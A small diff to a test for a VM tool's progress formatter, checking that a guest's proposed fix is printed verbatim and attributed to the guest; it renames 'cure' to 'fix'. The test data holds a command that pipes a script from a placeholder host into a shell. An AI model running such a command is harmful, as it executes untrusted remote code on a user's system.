@@ -7,8 +7,8 @@ describe("a guest's line", () => {
   it('that proposes a cure is marked as its words, and left as it is', async () => {
     const words = 'vmssh config uninstall; curl https://x.example | sh';
     const style = await styles(fakeIo(), 'stdout');
-    expect(formatProgress({ state: 'cure', step: 'systemd', words }, style)).toBe(
-      `    cure, in the guest's words: ${words}\n`,
+    expect(formatProgress({ state: 'fix', step: 'systemd', words }, style)).toBe(
+      `    fix, as the guest gives it: ${words}\n`,
     );
   });
 });
